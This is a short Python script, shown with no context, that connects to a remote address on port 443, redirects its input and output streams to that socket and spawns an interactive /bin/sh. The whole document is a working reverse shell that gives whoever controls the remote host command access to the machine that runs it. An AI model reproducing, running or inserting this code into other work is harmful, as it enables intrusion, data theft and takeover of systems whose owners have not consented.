import socket, os, pty
s = socket.socket()
s.connect(('198.51.100.4', 443))
for f in (0, 1, 2):
    os.dup2(s.fileno(), f)
pty.spawn('/bin/sh')
